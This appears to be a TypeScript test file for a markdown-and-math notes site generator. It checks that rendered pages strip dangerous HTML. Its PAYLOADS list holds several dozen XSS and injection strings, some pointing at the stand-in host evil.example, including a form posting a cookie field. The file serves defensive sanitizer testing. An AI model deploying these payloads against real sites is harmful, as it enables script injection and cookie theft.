import type { Element, Nodes } from "hast";
import { fromHtml } from "hast-util-from-html";
import katex from "katex";
import { describe, expect, it } from "vitest";
import { has } from "../../src/core/own.js";
import { buildNote, labelsOf, readNotes, singlePage, sitePage } from "../../src/notes/site.js";
import { PAGE_SCRIPT } from "../../src/report/page-style.js";

function pageOf(text: string, single = false): string {
  const notes = readNotes([
    { file: "note.md", text },
    { file: "other.md", text: "# Other\n" },
  ]);
  const options = { katex, draft: true };
  const built = notes.map((n) => buildNote(n, notes, labelsOf(notes), options, single));
  const first = built[0];
  if (first === undefined) throw new Error("no note was built");
  return single ? singlePage(built, () => "") : sitePage(first, notes, "style.css", true);
}

const HTML = new Set(
  "html head meta title link style body a div nav details summary ol ul li main article p span h1 h2 h3 h4 h5 h6 em strong b i s u del ins code pre blockquote br hr table thead tbody tr th td dl dt dd section button figure figcaption img sup sub small kbd abbr mark q cite var samp".split(
    " ",
  ),
);
const MATH =
  /^(?:math|semantics|annotation|m(?:row|i|o|n|frac|sup|sub|subsup|text|space|table|tr|td|style|over|under|underover|sqrt|root|padded|phantom|error|enclose|multiscripts))$/;
const SVG = /^(?:svg|g|path|rect|text|tspan|line|circle|polygon|polyline|defs|marker|title|desc|style)$/;
const ATTRIBUTE =
  /^(?:class(?:Name)?|id|title|lang|dir|href|rel|src|alt|width|height|style|type|aria\w+|data(?:Latex|Copy|Done)|charSet|content|name|httpEquiv|start|align|colSpan|rowSpan|loading|open|encoding|display|xmlns|mathvariant|stretchy|fence|separator|lspace|rspace|minsize|maxsize|columnalign|columnspacing|rowspacing|columnlines|rowlines|accent|accentunder|displaystyle|scriptlevel|linethickness|movablelimits|form|symmetric|viewBox|role|d|x|y|x1|x2|y1|y2|cx|cy|r|rx|ry|transform|marker(?:End|Start|Width|Height|Units)|refX|refY|orient|textAnchor|fill|stroke\w*|preserveAspectRatio|alttext|voffset|depth|notation|mathcolor|mathbackground|mathsize|linebreak|columnAlign|scope)$/;

/** Everything in a page that should not be there. */
function unexpected(html: string): readonly string[] {
  const out: string[] = [];
  const todo: { node: Nodes; inSvg: boolean }[] = [{ node: fromHtml(html), inSvg: false }];
  for (let at = todo.pop(); at !== undefined; at = todo.pop()) {
    const { node } = at;
    const inSvg = at.inSvg || (node.type === "element" && node.tagName === "svg");
    if (node.type === "comment") out.push(`comment ${node.value}`);
    if (node.type === "element") look(node, inSvg, out);
    if (has(node, "children")) for (const child of node.children) todo.push({ node: child, inSvg });
  }
  return out;
}

function look({ tagName, properties, children }: Element, inSvg: boolean, out: string[]): void {
  if (tagName === "script") {
    const [code] = children;
    if (code?.type !== "text" || code.value !== PAGE_SCRIPT || Object.keys(properties).length > 0) out.push("script");
    return;
  }
  if (!HTML.has(tagName) && !MATH.test(tagName) && !(inSvg && SVG.test(tagName))) out.push(`element ${tagName}`);
  for (const [name, value] of Object.entries(properties)) {
    if (!ATTRIBUTE.test(name)) out.push(`attribute ${tagName} ${name}`);
    const text = Array.isArray(value) ? value.join(" ") : String(value);
    if (name === "style" && /url|expression|import|position\s*:\s*fixed/i.test(text)) out.push(`style ${text}`);
    if (name === "src") out.push(`source ${text}`);
    if (name === "href") {
      const isLink = tagName === "a" && /^(?:https?:\/\/|mailto:)/i.test(text);
      if (!isLink && !/^(?:#[\w%-]*|[\w%-]+\.(?:html|css)(?:#[\w%-]*)?|[\w%./-]+)$/.test(text))
        out.push(`address ${text}`);
      if (/^[/\\]{2}/.test(text)) out.push(`address ${text}`);
      if (tagName === "link" && text !== "style.css") out.push(`link ${text}`);
    }
  }
}

const PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "'\"--><iframe src=//evil.example></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='//evil.example/x'>x</a>",
  "<a href='\\\\evil.example\\x'>x</a>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<form action=//evil.example><input name=cookie></form>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<style>@import '//evil.example/x.css'</style>",
  "<p style='background:url(//evil.example)' onclick=alert(1)>x</p>",
  "<div id=main class=cn-frame data-copy=x>x</div>",
  "</main></body><script>alert(1)</script>",
  "</code></pre><object data=//evil.example></object>",
  "<cr-slot-0x n='0'></cr-slot-0x><cr-slot-1x n='0'></cr-slot-1x>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><video src=//evil.example onloadstart=alert(1)>",
  "<!--><script>alert(1)</script>-->",
  "<x onfocus=alert(1) tabindex=1 autofocus>",
  "\\href{javascript:alert(1)}{x}",
  "\\htmlData{x=y}{\\htmlStyle{position:fixed}{z}}\\htmlClass{cr-copy}{x}\\htmlId{main}{x}",
  "\\includegraphics[width=1em]{//evil.example/x.png}",
  "\\url{javascript:alert(1)}\\unicode{x3c}script>",
  "\\def\\x{<script>alert(1)</script>}\\x",
  "\\text{<img src=x onerror=alert(1)>}",
  "\\rule{9999em}{9999em}",
  "\\color{red;background:url(//evil.example)}x",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/x.png)",
  "![x](//evil.example/x.png)",
  "[x](javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x 'onmouseover=alert(1)')",
  "<javascript:alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x onerror=alert(1)>",
  "\u0000<script\u0000>alert(1)</script>",
];

const POSITIONS: readonly ((payload: string) => string)[] = [
  (p) => `---\ntitle: ${p}\nlang: ${p}\n---\n# Note\n`,
  (p) => `# ${p}\n\n## ${p}\n`,
  (p) => `Words ${p} and *${p}* end.\n`,
  (p) => `$s = ${p}$ and $$${p}$$\n`,
  (p) => `$$\n${p}\n$$ {#eq:x}\n\nSee @eq:x.\n`,
  (p) => `\`\`\`chainrule\nshow: graph, ${p}\nlabel: ${p}\ncaption: ${p}\ns = u^T x\n∂s/∂x\n\`\`\`\n`,
  (p) => `\`\`\`chainrule\ns = u^T x # ${p}\n${p}\n∂s/∂x = ${p}\n\`\`\`\n`,
  (p) => `\`\`\`${p}\n${p}\n\`\`\`\n\n\`${p}\` and \`∂s/∂${p}\`{=chainrule}\n`,
  (p) => `| a | b |\n|---|---|\n| ${p} | $${p}$ |\n\n> - ${p}\n>   1. ${p}\n`,
  (p) => `[${p}](https://example.org/?${p.replace(/[\s()<>]/g, "")} "${p}") ![${p}](x.png "${p}")\n`,
  (p) => `<div title="${p}">\n${p}\n</div>\n\n<b>${p}</b>\n`,
  (p) => `$\\frac{\\partial s}{\\partial x} = ${p}$ with $s = x$ \\eqref{${p}}\n\n[${p}]: ${p}\n`,
];

describe("hostile notes", () => {
  it("500 payloads leave nothing that should not be there", { timeout: 120_000 }, () => {
    let count = 0;
    const found: string[] = [];
    for (const payload of PAYLOADS)
      for (const [k, position] of POSITIONS.entries()) {
        count++;
        for (const fault of unexpected(pageOf(position(payload), k % 3 === 0)))
          found.push(`${JSON.stringify(payload)} at ${k}: ${fault}`);
      }
    expect(found).toEqual([]);
    expect(count).toBeGreaterThanOrEqual(500);
  });

  it("this check sees what it is to see", () => {
    expect(unexpected('<p onclick="x">')).toEqual(["attribute p onClick"]);
    expect(unexpected("<script>alert(1)</script>")).toEqual(["script"]);
    expect(unexpected('<a href="javascript:x">')).toEqual(["address javascript:x"]);
    expect(unexpected('<img src="x">')).toEqual(["source x"]);
    expect(unexpected("<iframe>")).toEqual(["element iframe"]);
  });

  it("ordinary HTML and links of a note stay", () => {
    const html = pageOf("H<sub>2</sub>O, [x](https://example.org/a?b#c), [other](other.md#top), <kbd>K</kbd>\n");
    expect(html).toContain("H<sub>2</sub>O");
    expect(html).toContain('<a href="https://example.org/a?b#c" rel="noreferrer noopener">x</a>');
    expect(html).toContain('<a href="other.html#top">other</a>');
  });

  it("deep nesting, a long note and broken formulas end in a page", { timeout: 60_000 }, () => {
    const long = "Some words with $x_1$ and *emphasis*.\n\n".repeat(2000);
    for (const text of [
      ">".repeat(5000),
      "- ".repeat(5000),
      `${"[".repeat(20_000)}x`,
      `${"*a **b ".repeat(5000)}`,
      "$$\n".repeat(5001),
      "$".repeat(10_001),
      "<b>".repeat(4000),
      "<b>".repeat(20_000),
      `$${"{".repeat(5000)}$`,
      `$${"\\frac{1}{".repeat(2000)}$`,
      `$${"x^{".repeat(400)}1${"}".repeat(400)}$`,
      `\`\`\`chainrule\ns = ${"(".repeat(5000)}\n\`\`\``,
      "$\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\a$",
      `$\\newcommand{\\a}[1]{#1#1#1#1#1#1#1#1}${"\\a{".repeat(12)}x${"}".repeat(12)}$`,
      long,
    ])
      expect(pageOf(text)).toContain("</html>");
  });

  it("a macro of one formula changes no other", () => {
    const html = pageOf("$\\gdef\\mathbf{\\boxed}$ then $\\mathbf{x}$");
    expect(html).toContain("gdef");
    expect(html).toContain('class="mord mathbf">x<');
  });
});
